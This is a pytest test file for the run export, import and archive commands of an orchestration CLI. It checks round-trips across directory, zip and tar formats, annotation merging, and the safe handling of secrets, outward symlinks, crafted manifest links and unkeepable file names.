"""Runs go to directories, files and archives, and come back: whole, once, and as data."""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import IO, Any

import pytest
from msgspec import structs

from orchestra.engine import exported_copy, exporting, steady
from orchestra.model.archived import INDEX
from orchestra.model.execution import Fence
from orchestra.model.marks import MARK
from orchestra.model.operation import Requirement, SourceDef
from orchestra.model.run import Run
from orchestra.placing.making import Making
from orchestra.testing.builders import a_batch, a_fence, a_run, a_worker, an_identity, an_operation
from orchestra.workspace import records
from orchestra.workspace.durable import make_dirs
from orchestra.workspace.layout import attempt_directory
from tests.cli.conftest import Call
from tests.saved_runs import ended, saved

KINDS = ["out", "out.zip", "out.tar", "out.tar.gz", "out.tar.bz2", "out.tar.xz"]
pytestmark = pytest.mark.usefixtures("_fast")
IDS = ("aaaaaaaa1", "bbbbbbbb2", "cccccccc3")


@pytest.fixture
def _fast(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing waits for the disk."""
    monkeypatch.setenv("ORCHESTRA_DURABILITY", "fast")


def run_dir(home: Path, run_id: str) -> Path:
    return home / "runs" / run_id


def make(home: Path, *runs: Run) -> None:
    """Runs with a file each, an output, and records that name processes and variables."""
    saved(home, *runs)
    for run in runs:
        folder = run_dir(home, run.id)
        (folder / "sub").mkdir()
        (folder / "model.bin").write_bytes(f"model of {run.id}".encode())
        (folder / "sub" / "run.sh").write_text("#!/bin/sh\n")
        (folder / "sub" / "run.sh").chmod(0o755)
        (folder / "sub" / "near").symlink_to("../model.bin")
        if run.attempt:
            attempt = attempt_directory(folder, run.attempt)
            make_dirs(attempt)
            (attempt / "output").write_text("loss: 0.5\n")
            (attempt / "fence").write_bytes(msg(a_fence(identity=an_identity(pid=1))))
            (attempt / "orders").write_bytes(b"run=x\0env TOKEN=hunter2\0")
            (attempt / "environment.json").write_text(
                json.dumps({"captured": 1, "cpus": 2, "variables": {"LANG": "hunter2"}})
            )


def msg(fence: Fence) -> bytes:
    from orchestra.model.encoding import encode

    return encode(fence)


def three(home: Path) -> None:
    make(home, *(ended(id=run_id, created=n, started=n) for n, run_id in enumerate(IDS, 1)))


@pytest.fixture
def other(call: Call, tmp_path: Path) -> Call:
    """The same in another home."""
    (tmp_path / "other").mkdir()
    return lambda *arguments: call("-H", str(tmp_path / "other"), *arguments)


def files(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and ".orchestra" not in path.parts
    }


def ids(call: Call, *options: str) -> list[str]:
    called = call("runs", "--json", *options)
    assert called.code == 0, called.error
    return [run["id"] for run in called.json]


def leftovers(folder: Path) -> list[str]:
    return [name for name in os.listdir(folder) if name.startswith(".")]


# Export and import


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_exported_is_imported_as_it_was(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    three(home)

    exported = call("export", kind, "-y")
    imported = other("import", kind, "-y")

    assert (exported.code, exported.output) == (0, f"Exported 3 run(s) to {kind}\n")
    assert "Copying aaaaaaaa1\n" in exported.error
    assert (imported.code, imported.output) == (0, f"Imported 3 run(s) from {kind}\n"), imported.error
    assert ids(other) == ids(call) == list(reversed(IDS))
    for run_id in IDS:
        theirs = run_dir(tmp_path / "other", run_id)
        assert files(theirs) == files(run_dir(home, run_id))
        assert os.access(theirs / "sub" / "run.sh", os.X_OK)
        assert os.readlink(theirs / "sub" / "near") == "../model.bin"
        assert (theirs.stat().st_mode & 0o777) == 0o700
    assert other("cat", "--output", "1").output == "loss: 0.5\n"
    assert other("check", "--runs").code == 0
    assert leftovers(tmp_path / "other" / "runs") == []


@pytest.mark.parametrize("kind", KINDS)
def test_an_archive_is_listed_like_a_home(call: Call, home: Path, kind: str) -> None:
    three(home)
    call("export", kind, "-y")
    shown = call("runs").lines

    assert call("runs", "list", "-A", kind).lines == shown
    assert ids(call, "-A", kind, "-Fo", "nothing") == []
    place = call("runs", "-A", kind, "--json").json[0]["run_dir"]
    assert place == (str(home.parent / kind / IDS[2]) if kind == "out" else None)


@pytest.mark.parametrize("kind", KINDS)
def test_importing_again_changes_nothing(call: Call, other: Call, home: Path, kind: str) -> None:
    three(home)
    call("export", kind, "-y")
    other("import", kind, "-y")
    before = ids(other)

    again = other("import", kind, "-y")

    assert again.output == f"Imported 0 run(s) from {kind}\n"
    assert again.error.splitlines() == [f"WARNING: {run_id} exists, skipping" for run_id in IDS]
    assert ids(other) == before
    assert call("import", kind, "-y").error.count("exists, skipping") == 3


def test_runs_are_added_to_a_directory_and_not_copied_twice(call: Call, home: Path) -> None:
    three(home)
    call("export", "out", "1", "-y")

    called = call("export", "out", "-y")

    assert called.output == "Exported 2 run(s) to out\n"
    assert called.error.startswith(f"WARNING: {IDS[2]} exists, skipping\n")
    assert len(ids(call, "-A", "out")) == 3


def said(call: Call, *options: str) -> tuple[str, list[str], list[str], bool]:
    (run,) = call("runs", "--json", *options).json
    return run["label"], run["tags"], [comment["body"] for comment in run["comments"]], run["marked"]


def say(call: Call, word: str) -> None:
    """All that people can say of a run."""
    call("label", "-s", word, "-y")
    call("tag", "-a", word, "-y")
    call("comment", "-a", word, "-y")
    call("mark", "-y")


@pytest.mark.parametrize("kind", ["out", "out.zip"])
def test_a_later_word_on_a_run_reaches_the_copies_that_are_there(
    call: Call, other: Call, home: Path, kind: str
) -> None:
    make(home, ended(id="one"))
    call("export", kind, "-y")
    other("import", kind, "-y")
    say(call, "later")

    exported = call("export", kind, "-y", *(("--force",) if kind != "out" else ()))
    imported = other("import", kind, "-y")

    assert exported.error.startswith(
        "one exists, annotations updated\n" if kind == "out" else "Copying one\n"
    )
    assert (imported.output, imported.error) == (
        f"Imported 0 run(s) from {kind}\n",
        "one exists, annotations updated\n",
    )
    assert said(other) == said(call, "-A", kind) == said(call) == ("later", ["later"], ["later"], True)
    assert other("check", "--runs").code == 0
    assert (
        other("import", kind, "-y").error
        == call("import", kind, "-y").error
        == "WARNING: one exists, skipping\n"
    )

    other("label", "-s", "last", "-y")
    other("mark", "--clear", "-y")
    other("export", "back", "-y")
    assert call("import", "back", "-y").error == "one exists, annotations updated\n"
    assert said(call) == ("last", ["later"], ["later"], False)


def test_an_earlier_word_on_a_run_replaces_none(call: Call, other: Call, home: Path) -> None:
    make(home, ended(id="one"))
    call("export", "out", "-y")
    other("import", "out", "-y")
    for _ in range(3):
        # Often is not late.
        say(call, "often")
    say(other, "late")

    assert other("export", "out", "-y").error.startswith("one exists, annotations updated\n")
    assert call("export", "out", "-y").error.startswith("WARNING: one exists, skipping\n")
    assert said(call, "-A", "out")[0] == "late"
    assert call("import", "out", "-y").error == "one exists, annotations updated\n"
    assert said(call) == said(other)


def test_a_named_archive_gets_the_words_that_came_since(call: Call, home: Path) -> None:
    make(home, ended(id="one"))
    call("archive", "old", "--create", "--copy", "-y")
    call("comment", "-a", "good", "-y")

    again = call("archive", "old", "--copy", "-y")

    assert again.error == "one exists, annotations updated\n"
    assert again.output == "Archived 0 run(s) to 'old'\n"
    call("runs", "rm", "-p", "1", "-y")
    assert call("import", "old", "--move", "-y").output == "Imported 1 run(s) from old\n"
    assert said(call)[2] == ["good"]


def test_an_archive_is_whole_when_words_reach_it_half(
    call: Call, other: Call, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make(home, ended(id="one"))
    call("export", "out", "-y")
    say(call, "new")
    write = exported_copy.write_atomic

    def failing(path: Path, *given: Any, **options: Any) -> None:
        if path.name == "run.json":
            raise OSError(errno.EIO, "Input/output error")
        write(path, *given, **options)

    with monkeypatch.context() as broken:
        broken.setattr(exported_copy, "write_atomic", failing)
        assert call("export", "out", "-y").code != 0
    assert other("import", "out", "-y").output == "Imported 1 run(s) from out\n"

    assert call("export", "out", "-y").error.startswith("one exists, annotations updated\n")
    assert other("import", "out", "-y").error == "one exists, annotations updated\n"
    (Path("out/one") / ".orchestra/run.json").write_text("{}")
    assert other("import", "out", "-y").code == 1


def test_another_run_of_the_same_id_is_refused_before_anything_is_entered(
    call: Call, other: Call, home: Path
) -> None:
    three(home)
    call("export", "out.zip", "-y")
    other("import", "out.zip", "1", "-y")
    (run_dir(home.parent / "other", IDS[2]) / "model.bin").write_text("retrained")

    refused = other("import", "out.zip", "-y")
    assert refused.code == 1
    assert f"other runs here have the ids of runs of 'out.zip': {IDS[2]}\n" in refused.error
    assert len(ids(other)) == 1

    renamed = other("import", "out.zip", "-y", "--new-id")
    assert renamed.output == "Imported 3 run(s) from out.zip\n"
    assert len(ids(other)) == 4
    assert IDS[2] in ids(other)
    (new,) = set(ids(other)) - set(IDS)
    assert f"Copying {IDS[2]} as {new}\n" in renamed.error


def test_a_run_that_is_in_the_trash_is_restored_and_not_imported_beside_it(call: Call, home: Path) -> None:
    three(home)
    call("export", "out.zip", "-y")
    call("runs", "rm", IDS[2], "-y")

    refused = call("import", "out.zip", "-y")
    assert refused.code == 1
    assert f"runs of 'out.zip' are in the trash of this home: {IDS[2]}\n" in refused.error
    assert "'orchestra runs restore'" in refused.error
    assert call("import", "out.zip", IDS[2], "-y", "--new-id").code == 0
    assert call("runs", "restore", "-y").code == 0
    assert set(ids(call)) > set(IDS)


def test_moving_deletes_the_runs_where_they_were(call: Call, other: Call, home: Path, tmp_path: Path) -> None:
    three(home)

    moved = call("export", "out", "1:2", "--move", "-y")
    assert moved.output == "Exported 2 run(s) to out\n"
    assert f"Moving {IDS[2]}\n" in moved.error
    assert ids(call) == [IDS[0]]

    assert other("import", "out", "--move", "-y").output == "Imported 2 run(s) from out\n"
    assert ids(other) == [IDS[2], IDS[1]]
    assert [name for name in os.listdir(tmp_path / "out") if not name.startswith("orchestra")] == []


@pytest.mark.parametrize("state", ["completed", "staged"])
def test_what_was_changed_while_runs_were_moved_is_kept(
    call: Call, home: Path, monkeypatch: pytest.MonkeyPatch, state: str
) -> None:
    make(home, ended(id="one") if state == "completed" else a_run(id="one", state="staged"), ended(id="two"))
    to_folder = exporting._Export.to_folder  # pyright: ignore

    async def labelled_meanwhile(export: Any) -> exporting.Exported:
        exported = await to_folder(export)
        run = await export.session.store.get("one")
        await export.session.store.update((structs.replace(run, label="new"),))
        return exported

    monkeypatch.setattr(exporting._Export, "to_folder", labelled_meanwhile)

    moved = call("export", "out", "--move", "-y")

    assert moved.code == 1
    assert "run one has been changed meanwhile" in moved.error
    (kept,) = call("runs", "--json").json
    assert (kept["id"], kept["label"], kept["status"]) == ("one", "new", state)
    assert sorted(ids(call, "-A", "out")) == ["one", "two"]


def test_import_removes_no_copy_from_an_archive_of_which_people_have_said_other_things(
    call: Call, other: Call, home: Path
) -> None:
    make(home, ended(id="same"), ended(id="said", label="old"))
    call("export", "out", "-y")
    other("import", "out", "-y")
    other("label", "-s", "new", "said", "-y")
    call("label", "-s", "newer", "same", "-y")
    call("export", "out", "-y")

    moved = other("import", "out", "--move", "-y")

    assert moved.output == "Imported 0 run(s) from out\n"
    assert "said is kept in the archive" in moved.error
    assert ids(call, "-A", "out") == ["said"]
    assert {run["label"] for run in other("runs", "--json").json} == {"new", "newer"}


@pytest.mark.parametrize("more", [b"abc", b"x" * 5000])
def test_a_zip_that_something_follows_is_refused(call: Call, other: Call, home: Path, more: bytes) -> None:
    make(home, ended(id="one"))
    call("export", "out.zip", "-y")
    with open("out.zip", "ab") as file:
        file.write(more)

    assert other("import", "out.zip", "-y").code == 1
    assert ids(other) == []


@pytest.mark.parametrize("where", ["second", "killed"])
def test_what_force_was_to_replace_is_there_when_the_new_copy_can_not_be(
    call: Call, home: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    make(home, ended(id="one"))
    call("export", "out", "-y")
    rename = os.rename

    def failing(source: Any, target: Any) -> None:
        if Path(target) == Path("out/one").absolute() and not str(source).endswith(".before"):
            raise OSError(errno.EIO, "Input/output error")
        rename(source, target)

    with monkeypatch.context() as broken:
        broken.setattr(os, "rename", failing)
        if where == "killed":
            broken.setattr(Making, "close", lambda making: os.close(making._lock))
        assert call("export", "out", "--force", "-y").code != 0

    call("export", "out", "-y")
    assert ids(call, "-A", "out") == ["one"]
    assert (Path("out/one") / "model.bin").read_bytes() == b"model of one"


def test_a_record_in_an_archive_leads_to_no_directory_elsewhere(call: Call, home: Path) -> None:
    make(home, ended(id="mine"))
    call("export", "out", "-y")
    record = Path("out/mine/.orchestra/run.json")
    told = json.loads(record.read_text()) | {"directory": str(run_dir(home, "mine"))}
    record.write_text(json.dumps(told))

    assert call("runs", "-A", "out", "--json").json[0]["run_dir"] == str(Path("out/mine").absolute())
    assert call("runs", "rm", "-A", "out", "1", "-y").code == 0
    assert (run_dir(home, "mine") / ".orchestra" / "run.json").is_file()
    assert not Path("out/mine").exists()


def test_runs_are_not_moved_out_of_a_file_or_another_home(call: Call, other: Call, home: Path) -> None:
    three(home)
    call("export", "out.zip", "-y")

    from_file = other("import", "out.zip", "--move", "-y")
    from_home = other("import", str(home), "--move", "-y")

    assert from_file.error.startswith("orchestra: runs can't be moved out of 'out.zip': it is a file\n")
    assert from_home.error.startswith(f"orchestra: runs can't be moved out of the home '{home}'\n")
    assert (from_file.code, from_home.code) == (1, 1)
    assert len(ids(call)) == 3


def test_another_home_is_a_source_too(call: Call, other: Call, home: Path) -> None:
    three(home)

    assert other("import", str(home), "2", "-y").output == f"Imported 1 run(s) from {home}\n"
    assert ids(other) == [IDS[1]]
    assert ids(other, "-A", str(home)) == list(reversed(IDS))


def test_a_batch_that_is_named_brings_its_trials(call: Call, other: Call, home: Path) -> None:
    batch = ended(id="batch", kind="batch", batch_spec=a_batch(), flags={}, created=9, started=9)
    trials = [ended(id=f"trial{n}", batch="batch", trial=n, generation=1, created=n) for n in (1, 2)]
    make(home, batch, *trials, ended(id="alone", created=5))

    assert call("export", "out", "batch", "-y").output == "Exported 3 run(s) to out\n"
    assert other("import", "out", "batch", "-y").output == "Imported 3 run(s) from out\n"
    assert [run["batch"] for run in other("runs", "--json").json if run["id"] != "batch"] == ["batch"] * 2


def test_filters_choose_what_is_exported_and_imported(call: Call, other: Call, home: Path) -> None:
    make(home, ended(id="good"), ended(id="bad", state="error", exit_code=1))

    assert call("export", "out.zip", "-Se", "-y").output == "Exported 1 run(s) to out.zip\n"
    call("export", "all.zip", "-y")
    assert other("import", "all.zip", "-Sc", "-y").output == "Imported 1 run(s) from all.zip\n"
    assert ids(other) == ["good"]
    assert other("import", "all.zip", "-Sr", "-y").error == "Nothing to import.\n"
    assert call("export", "none.zip", "-Sr", "-y").error == "Nothing to export.\n"
    assert not (home.parent / "none.zip").exists()


def test_nothing_happens_without_a_yes(call: Call, other: Call, home: Path, tmp_path: Path) -> None:
    three(home)
    asked = call("export", "out.zip")
    assert asked.code == 2
    assert "You are about to export the following runs to 'out.zip':\n  [cccccccc]" in asked.error
    assert not (tmp_path / "out.zip").exists()

    call("export", "out.zip", "-y")
    assert other("import", "out.zip").code == 2
    assert ids(other) == []


# What goes along and what doesn't


@pytest.mark.parametrize("kind", ["out", "out.tar"])
def test_variables_and_processes_stay_where_they_are(
    call: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="one", environment={"TOKEN": "hunter2"}))

    called = call("export", kind, "-y")

    assert "Environment variables were left out" in called.error
    folder = tmp_path / kind
    held = (
        folder.read_bytes()
        if folder.is_file()
        else b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())
    )
    assert b"hunter2" not in held
    assert b'"pid":1' not in held
    assert b'"cpus":2' in held

    call("export", kind, "-y", "--force", "--environment")
    record = json.loads((tmp_path / "out/one/.orchestra/run.json").read_text()) if kind == "out" else None
    assert record is None or record["environment"] == {"TOKEN": "hunter2"}


@pytest.mark.parametrize("kind", KINDS)
def test_a_link_that_leads_out_is_not_followed(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    (tmp_path / "private").write_text("SECRET")
    make(home, ended(id="one"))
    (run_dir(home, "one") / "leak").symlink_to(tmp_path / "private")
    (run_dir(home, "one") / "gone").symlink_to("nowhere")

    called = call("export", kind, "-y", "--copy-resources")

    assert (
        "WARNING: one: not exported, for they are links to what does not go along: 'gone', 'leak'"
        in called.error
    )
    assert other("import", kind, "-y").code == 0
    assert not os.path.lexists(run_dir(tmp_path / "other", "one") / "leak")
    assert b"SECRET" not in b"".join(files(tmp_path / "other").values())


@pytest.mark.parametrize("kind", KINDS)
def test_a_link_to_another_run_is_one_again_where_both_are(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="prep"), ended(id="train"))
    (run_dir(home, "train") / "data").symlink_to(run_dir(home, "prep") / "model.bin")
    call("export", kind, "-y")

    alone = other("import", kind, "train", "-y")
    assert "WARNING: train: links to files that are not here are left out: 'data'" in alone.error
    call("-H", str(tmp_path / "other"), "runs", "delete", "--permanent", "-y")

    assert other("import", kind, "-y").code == 0
    link = run_dir(tmp_path / "other", "train") / "data"
    assert os.readlink(link) == "../prep/model.bin"
    assert link.read_text() == "model of prep"


@pytest.mark.parametrize("kind", KINDS)
def test_resources_are_copied_where_that_is_wanted(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="prep"), ended(id="train"))
    (run_dir(home, "train") / "data").symlink_to(run_dir(home, "prep") / "sub")
    call("export", kind, "-y")
    call("export", f"with-{kind}", "train", "-r", "-y")

    assert other("import", kind, "train", "-r", "-y").code == 0
    assert call("-H", str(tmp_path / "third"), "import", f"with-{kind}", "-y").code == 0
    for name in ("other", "third"):
        folder = run_dir(tmp_path / name, "train") / "data"
        assert not folder.is_symlink()
        assert (folder / "run.sh").read_text() == "#!/bin/sh\n"


@pytest.mark.parametrize("kind", ["out", "out.zip", "out.tar"])
def test_no_link_that_a_run_has_keeps_its_archive_from_being_imported(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="one"), ended(id="two"))
    one = run_dir(home, "one")
    os.mkfifo(one / "pipe")
    for name, target in {
        "all": ".",
        "sub/up": "..",
        "sub/deep": "../all/model.bin",
        "to-pipe": "pipe",
        "own": "../one/model.bin",
        "whole": str(one / "sub"),
        "env": ".orchestra/exported.json",
        "round": "about",
        "about": "round",
        "two/its-pipe": "../../two/pipe",
        "two/its-model": "../../two/model.bin",
    }.items():
        (one / name).parent.mkdir(exist_ok=True)
        (one / name).symlink_to(target)
    os.mkfifo(run_dir(home, "two") / "pipe")

    exported = call("export", kind, "-y")
    imported = other("import", kind, "-y")

    assert exported.code == 0
    elsewhere = "for they are links to what does not go along: 'about', 'env', 'round', 'to-pipe' ("
    assert f"one: not exported: 'pipe'\nWARNING: one: not exported, {elsewhere}" in exported.error
    assert (imported.code, imported.output) == (0, f"Imported 2 run(s) from {kind}\n"), imported.error
    theirs = run_dir(tmp_path / "other", "one")
    links = {
        str(path.relative_to(theirs)): os.readlink(path) for path in theirs.rglob("*") if path.is_symlink()
    }
    assert links == {
        "all": ".",
        "sub/up": "..",
        "sub/near": "../model.bin",
        "sub/deep": "../model.bin",
        "own": "model.bin",
        "whole": "sub",
        "two/its-model": "../../two/model.bin",
    }
    assert other("import", kind, "-y").error.count("exists, skipping") == 2
    if kind == "out":
        assert call("export", kind, "-y").error.count("exists, skipping") == 2


def test_a_run_is_the_same_with_copies_of_what_its_links_lead_to(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    make(home, ended(id="prep"), ended(id="train"))
    (run_dir(home, "train") / "data").symlink_to(run_dir(home, "prep") / "sub")
    (run_dir(home, "train") / "start").symlink_to(run_dir(home, "prep") / "model.bin")
    third: Call = lambda *arguments: call("-H", str(tmp_path / "third"), *arguments)  # noqa: E731

    for place in ("out", "out.zip"):
        call("export", place, "train", "-r", "-y")
        assert call("import", place, "-y").error == "WARNING: train exists, skipping\n"
    assert call("export", "out", "train", "-r", "-y").error == "WARNING: train exists, skipping\n"
    call("export", "plain.zip", "-y")
    assert other("import", "out.zip", "-y").output == "Imported 1 run(s) from out.zip\n"
    assert other("import", "plain.zip", "train", "-y").error == "WARNING: train exists, skipping\n"
    assert other("export", "out", "-y").error == "WARNING: train exists, skipping\n"
    assert third("import", "plain.zip", "train", "-r", "-y").output == "Imported 1 run(s) from plain.zip\n"
    for place, options in (("plain.zip", ("train", "-r")), ("plain.zip", ("train",)), ("out.zip", ())):
        assert third("import", place, *options, "-y").error == "WARNING: train exists, skipping\n"

    (run_dir(tmp_path / "other", "train") / "model.bin").write_text("retrained")
    assert other("import", "out.zip", "-y").code == 1


def test_no_link_that_an_import_makes_lies_below_another(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    make(home, ended(id="one"))
    deep = run_dir(home, "one") / "a" / "b"
    deep.mkdir(parents=True)
    (deep / "near").symlink_to("../../sub")
    call("export", "out", "-y")
    path = tmp_path / "out/one/.orchestra/exported.json"
    manifest = json.loads(path.read_text())
    manifest["outside"] = {"a/b/near/l": "../../..", "l": "../..", "a/l": "../x/.."}
    path.write_text(json.dumps(manifest))

    assert other("import", "out", "-y").code == 0

    theirs = run_dir(tmp_path / "other", "one")
    assert {
        str(path.relative_to(theirs)): os.readlink(path) for path in theirs.rglob("*") if path.is_symlink()
    } == {
        "a/b/near": "../../sub",
        "sub/near": "../model.bin",
        "a/l": "..",
    }


def test_what_no_archive_can_keep_is_told_and_never_moved(call: Call, home: Path) -> None:
    make(home, ended(id="one"))
    os.mkfifo(run_dir(home, "one") / "pipe")

    called = call("export", "out.zip", "-y")
    assert called.code == 0
    assert "WARNING: one: not exported: 'pipe'" in called.error
    refused = call("export", "two.zip", "--move", "-y")
    assert refused.code == 1
    assert "run one can't be moved" in refused.error
    assert ids(call) == ["one"]
    assert sorted(name for name in os.listdir(home.parent) if "zip" in name) == ["out.zip"]


@pytest.mark.parametrize(
    ("kind", "name"), [("zip", "a\nb"), ("zip", "a\udcff"), ("tar", "a\x1b[2J"), ("tar", "C:x")]
)
def test_a_name_that_a_file_can_not_keep_is_refused_and_a_directory_keeps_it(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str, name: str
) -> None:
    make(home, ended(id="one"))
    (run_dir(home, "one") / name).write_text("x")

    refused = call("export", f"out.{kind}", "-y")
    assert refused.code == 1
    assert f"run one has something in it whose name no {kind} file can keep: {name!r}\n" in refused.error
    assert sorted(os.listdir(tmp_path)) == ["home", "other"]
    assert call("export", "out", "-y").code == 0
    assert other("import", "out", "-y").code == 0
    assert (run_dir(tmp_path / "other", "one") / name).read_text() == "x"


def test_a_run_that_is_running_is_exported_as_it_is_but_not_moved(
    call: Call, other: Call, home: Path
) -> None:
    from orchestra.workspace.fence import hold

    run = a_run(id="one", state="running", attempt=1, worker=a_worker(), started=1)
    saved(home, run)
    with hold(attempt_directory(run_dir(home, "one"), 1), "n", fsync=False):
        refused = call("export", "out", "--move", "-y")
        exported = call("export", "out", "-y")

    assert "orchestra: run one has not ended: running runs are not moved" in refused.error
    assert "WARNING: one is running: it is exported as it is now" in exported.error
    other("import", "out", "-y")
    (here,) = other("runs", "--json").json
    assert (here["status"], here["reason"]) == ("lost", "it was running when it was exported")


@pytest.mark.parametrize("kind", ["out", "out.zip"])
def test_what_a_running_run_rotates_and_removes_is_left_out_of_what_is_exported(
    call: Call, other: Call, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    from orchestra.workspace.fence import hold

    run = a_run(id="one", state="running", attempt=1, worker=a_worker(), started=1)
    make(home, run)
    folder = run_dir(home, "one")
    for name in ("a.log", "steady.log", "shrinks.log", "sub/b.log", "gone/c.log"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(b"x" * 300_000)
    (folder / "sub" / "last").symlink_to("b.log")
    look, seen = steady.open_part, list[str]()

    def rotating(source: str) -> tuple[IO[bytes], os.stat_result]:
        name = os.path.relpath(source, folder)
        seen.append(name)
        if name == "a.log":
            shutil.rmtree(folder / "gone")
        if name == "sub/b.log":
            (folder / name).unlink()
        opened = look(source)
        if name == "shrinks.log":
            os.truncate(source, opened[1].st_size - 1)
        if name == "steady.log" and seen.count(name) == 1:
            os.truncate(source, 5)
        return opened

    monkeypatch.setattr(steady, "open_part", rotating)
    (attempt_directory(folder, 1) / "fence").unlink()
    with hold(attempt_directory(folder, 1), "n", fsync=False):
        exported = call("export", kind, "-y")

    assert exported.code == 0, exported.error
    told = "one: not exported, for it changed or removed them meanwhile: 'gone', 'shrinks.log', 'sub/b.log'"
    assert told in exported.error, exported.error
    assert other("import", kind, "-y").code == 0
    theirs = run_dir(tmp_path / "other", "one")
    assert sorted(files(theirs)) == ["a.log", "model.bin", "steady.log", "sub/near", "sub/run.sh"]
    assert (theirs / "steady.log").read_bytes() == b"x" * 5
    assert leftovers(tmp_path) + (leftovers(tmp_path / kind) if kind == "out" else []) == []


# Places


def test_a_file_is_replaced_only_by_force(call: Call, home: Path, tmp_path: Path) -> None:
    three(home)
    (tmp_path / "out.zip").write_text("mine")

    refused = call("export", "out.zip", "-y")
    assert refused.code == 1
    assert "exists already\nChoose another name, or use --force to replace it.\n" in refused.error
    assert (tmp_path / "out.zip").read_text() == "mine"

    assert call("export", "out.zip", "-y", "--force").code == 0
    assert len(ids(call, "-A", "out.zip")) == 3


def test_a_run_that_went_on_since_is_replaced_only_by_force(call: Call, home: Path, tmp_path: Path) -> None:
    make(home, ended(id="one"))
    call("export", "out", "-y")
    (run_dir(home, "one") / "model.bin").write_text("newer")

    assert "exists with other content, skipping" in call("export", "out", "-y").error
    assert (tmp_path / "out/one/model.bin").read_text() == "model of one"
    assert call("export", "out", "-y", "--force").output == "Exported 1 run(s) to out\n"
    assert (tmp_path / "out/one/model.bin").read_text() == "newer"


@pytest.mark.parametrize(
    ("place", "message"),
    [
        ("home/runs/x", "is where the runs of this home are"),
        ("home", "is where the runs of this home are"),
        ("other", "'other' is a home"),
        ("nowhere/out.zip", "is not a directory"),
        ("a-file", "'a-file' is not a directory"),
        ("out.rar", "there is no such kind of archive"),
        ("out.tar.zst", "there is no such kind of archive"),
        ("", "there is no place with an empty name"),
        ("/proc/out.zip", "orchestra: No such file or directory: '/proc/out.zip'"),
    ],
)
def test_places_where_no_archive_can_be_are_refused(
    call: Call, other: Call, home: Path, tmp_path: Path, place: str, message: str
) -> None:
    three(home)
    other("runs")
    saved(tmp_path / "other", ended(id="x"))
    (tmp_path / "a-file").touch()

    refused = call("export", place, "-y")

    assert refused.code == 1
    assert message in refused.error
    assert len(ids(call)) == 3


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("missing.zip", "archive 'missing.zip' does not exist"),
        ("text.zip", "is not an archive of runs"),
        ("empty", "orchestra: there are no runs in 'empty'"),
        ("plain.zip", "is not an archive of runs: it has no orchestra-archive.json"),
    ],
)
def test_what_is_no_archive_is_refused(call: Call, tmp_path: Path, name: str, message: str) -> None:
    (tmp_path / "text.zip").write_text("just text")
    (tmp_path / "empty").mkdir()
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr(
            "one/.orchestra/run.json",
            '{"id":"one","operation":{"name":"x","kind":"script"},"state":"completed"}',
        )

    refused = call("import", name, "-y")

    assert refused.code == 1
    assert message in refused.error
    assert ids(call) == []


@pytest.mark.parametrize("kind", KINDS)
def test_runs_of_an_archive_are_found_by_what_they_came_to(call: Call, home: Path, kind: str) -> None:
    make(home, ended(id="one"), ended(id="two"))
    (attempt_directory(run_dir(home, "two"), 1) / "output").write_text("loss: 0.7\n")
    call("export", kind, "-y")

    assert ids(call, "-A", kind, "-F", "loss < 0.6") == ["one"]
    assert call("-H", "other", "import", kind, "-F", "loss > 0.6", "-y").error == "Copying two\n"


# Archives of the home


def test_runs_are_archived_and_come_back_as_they_were(call: Call, home: Path) -> None:
    make(home, a_run(id="waits", state="staged", created=2, staged=2), ended(id="done", created=1, started=1))

    unknown = call("archive", "old", "-y")
    assert unknown.code == 1
    assert unknown.error.startswith("orchestra: archive 'old' does not exist\n")

    archived = call("archive", "old", "--create", "-d", "of spring", "-y")
    assert archived.output == "Archived 2 run(s) to 'old'\n"
    assert "Creating 'old'\n" in archived.error
    assert ids(call) == []
    assert ids(call, "-A", "old") == ["waits", "done"]
    assert call("archive", "--list").output == "old  2 runs  of spring\n"
    assert call("archive", "--list", "--json").json[0]["name"] == "old"

    assert call("import", "old", "--move", "-y").output == "Imported 2 run(s) from old\n"
    assert [(run["id"], run["status"]) for run in call("runs", "--json").json] == [
        ("waits", "staged"),
        ("done", "completed"),
    ]
    assert "imported:" not in call("runs", "info", "1").output
    assert call("archive", "--list").output == "old  0 runs  of spring\n"


def test_a_copy_leaves_the_runs_where_they_are(call: Call, home: Path) -> None:
    three(home)

    assert call("archive", "old", "1", "--create", "--copy", "-y").output == "Archived 1 run(s) to 'old'\n"
    assert len(ids(call)) == 3
    assert ids(call, "-A", "old") == [IDS[2]]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--list", "old"), "--list takes no archive, runs or other options"),
        (("--list", "-Fo", "train"), "--list takes no archive, runs or other options"),
        (("--list", "--copy"), "--list takes no archive, runs or other options"),
        (("--create",), "NAME is missing"),
        (("old", "--json"), "--json is for the list of archives"),
    ],
)
def test_no_option_of_archive_is_accepted_and_ignored(
    call: Call, arguments: tuple[str, ...], message: str
) -> None:
    refused = call("archive", *arguments)

    assert refused.code == 2
    assert f"orchestra: {message}\n" in refused.error


@pytest.mark.parametrize("name", ["Läufe (März)", "実験", "a, b & c"])
def test_an_archive_has_any_name_that_a_folder_can_have(call: Call, home: Path, name: str) -> None:
    three(home)

    assert call("archive", name, "1", "--create", "-y").output == f"Archived 1 run(s) to '{name}'\n"
